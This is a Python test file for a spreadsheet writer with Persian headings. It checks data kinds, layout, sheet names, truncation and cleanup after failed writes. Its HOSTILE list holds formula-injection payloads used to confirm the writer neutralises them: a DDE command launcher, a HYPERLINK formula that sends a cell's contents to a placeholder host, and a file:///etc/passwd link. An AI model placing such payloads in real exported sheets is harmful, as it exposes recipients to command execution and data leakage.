# SPDX-License-Identifier: Apache-2.0
"""A written list, read back: what was text is text, what was a number is one, and nothing calculates."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import pytest

from welfare_desk import outside
from welfare_desk.documents.sheets import writer
from welfare_desk.documents.sheets.reader import SheetReader
from welfare_desk.documents.sheets.workbook import Row, Sheet
from welfare_desk.documents.sheets.writer import Column, Kind, Value, write_sheet
from welfare_desk.domain.errors import RuleError
from welfare_desk.domain.money import Rial

COLUMNS = (
    Column("کد ملی", Kind.IDENTIFIER),
    Column("نام"),
    Column("مبلغ", Kind.MONEY),
    Column("تاریخ", Kind.DATE),
    Column("تعداد", Kind.NUMBER, 6),
)
HOSTILE = (
    '=HYPERLINK("http://x/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "{=1+1}",
    "http://example.org",
    "mailto:a@b.c",
    "internal:Sheet1!A1",
    "file:///etc/passwd",
    "1E5",
    "00123",
    "_x003D_1",
    "' =1",
)


def _sheet(reader: SheetReader, path: Path) -> Sheet:
    return reader.read(path).sheets[0]


def _part(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode()


def _rows() -> list[tuple[Value, ...]]:
    return [
        ("0012345679", "علی", Rial(12_500_000), date(2025, 9, 25), 3),
        ("IR820540102680020817909002", None, Rial(0), None, 2.5),
    ]


def test_values_come_back_in_their_kinds(reader: SheetReader, tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    assert write_sheet(path, "فهرست", COLUMNS, _rows(), [("صافی", "محله: انبیاء"), ("", "۲ پرونده")]) == 2
    assert _sheet(reader, path).rows == [
        Row(1, ("فهرست",)),
        Row(2, ("صافی: محله: انبیاء",)),
        Row(3, ("۲ پرونده",)),
        Row(5, ("کد ملی", "نام", "مبلغ", "تاریخ", "تعداد")),
        Row(6, ("0012345679", "علی", 12_500_000, "1404/07/03", 3)),
        Row(7, ("IR820540102680020817909002", None, 0, None, 2.5)),
    ]


def test_what_numbers_cannot_hold_is_text_or_nothing(reader: SheetReader, tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    columns = [Column(name, Kind.NUMBER) for name in "abcdef"]
    moment = datetime.fromisoformat("2025-09-25T08:30")
    write_sheet(path, "ا", columns, [(10**15, 999_999_999_999_999, float("nan"), float("inf"), True, moment)])
    assert _sheet(reader, path).rows[-1].cells == (
        "1000000000000000",
        999_999_999_999_999,
        None,
        None,
        "بله",
        "1404/07/03 08:30",
    )


def test_no_text_becomes_a_formula_or_a_link(reader: SheetReader, tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    write_sheet(path, "=1+1", [Column("=2+2")], [(text,) for text in HOSTILE], [("=3", "=4")])
    sheet = _part(path, "xl/worksheets/sheet1.xml")
    assert re.findall(r"<f>|<hyperlink", sheet) == []
    assert [row.cells[0] for row in _sheet(reader, path).rows[3:]] == list(HOSTILE)
    assert 'quotePrefix="1"' in _part(path, "xl/styles.xml")


def test_the_sheet_is_set_up_for_an_office(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    write_sheet(path, "فهرست", COLUMNS, _rows(), [("صافی", "همه")])
    sheet = _part(path, "xl/worksheets/sheet1.xml")
    assert 'rightToLeft="1"' in sheet
    assert re.findall(r'<pane ySplit="(\d+)"', sheet) == ["4"]
    assert re.findall(r'<autoFilter ref="([^"]+)"', sheet) == ["A4:E6"]
    assert re.findall(r'paperSize="(\d+)" .*?orientation="(\w+)"', sheet) == [("9", "landscape")]
    assert 'fitToHeight="0"' in sheet
    book = _part(path, "xl/workbook.xml")
    assert "$4:$4" in book
    assert "$A$1:$E$6" in book


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("پرونده‌ها", "پرونده‌ها"),
        ("الف/ب:ج[د]*?\\", "الف ب ج د"),
        ("'نقل'", "نقل"),
        ("", "فهرست"),
        ("ن" * 40, "ن" * 31),
    ],
)
def test_sheet_names_that_excel_accepts(title: str, name: str, reader: SheetReader, tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    write_sheet(path, title, COLUMNS, [])
    assert _sheet(reader, path).title == name


def test_an_empty_list_has_its_headings(reader: SheetReader, tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    assert write_sheet(path, "فهرست", COLUMNS, []) == 0
    assert _sheet(reader, path).rows[-1].cells == ("کد ملی", "نام", "مبلغ", "تاریخ", "تعداد")


def test_a_text_too_long_for_a_cell_is_cut_with_a_mark(reader: SheetReader, tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    write_sheet(path, "فهرست", [Column("متن")], [("م" * 40_000,)])
    assert _sheet(reader, path).rows[-1].cells == ("م" * 32_766 + "…",)


def test_a_buffer_takes_it_as_well(reader: SheetReader, tmp_path: Path) -> None:
    buffer = io.BytesIO()
    write_sheet(buffer, "فهرست", COLUMNS, _rows())
    (tmp_path / "list.xlsx").write_bytes(buffer.getvalue())
    assert len(_sheet(reader, tmp_path / "list.xlsx").rows) == 4


def test_many_rows_go_through_a_folder_that_is_gone_again(
    reader: SheetReader, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(outside, "_MANY_ROWS", 100)
    path = tmp_path / "list.xlsx"
    seen: list[list[str]] = []

    def rows() -> Iterator[tuple[Value, ...]]:
        for number in range(300):
            if number == 200:
                seen.append(sorted(found.suffix for found in tmp_path.iterdir()))
            yield (f"{number:010d}", "=1+1", Rial(number), None, number)

    assert write_sheet(path, "فهرست", COLUMNS, rows(), count=300) == 300
    assert len(seen[0]) == 2
    assert list(tmp_path.iterdir()) == [path]
    assert _sheet(reader, path).rows[-1].cells == ("0000000299", "=1+1", 299, None, 299)


def test_rows_that_fail_leave_nothing_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(outside, "_MANY_ROWS", 1)
    path = tmp_path / "list.xlsx"
    path.write_bytes(b"earlier")

    def rows() -> Iterator[tuple[Value, ...]]:
        yield _rows()[0]
        raise KeyError("made up")

    for count in (1, 1000):
        with pytest.raises(KeyError):
            write_sheet(path, "فهرست", COLUMNS, rows(), count=count)
        assert [found.name for found in tmp_path.iterdir()] == ["list.xlsx"]
        assert path.read_bytes() == b"earlier"


def test_more_rows_than_a_sheet_holds_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writer, "LAST_ROW", 10)
    with pytest.raises(RuleError) as refused:
        write_sheet(tmp_path / "list.xlsx", "فهرست", [Column("الف")], [("x",)] * 20)
    assert (refused.value.code, refused.value.facts) == ("sheet_full", {"count": 8, "limit": 7})
    assert list(tmp_path.iterdir()) == []
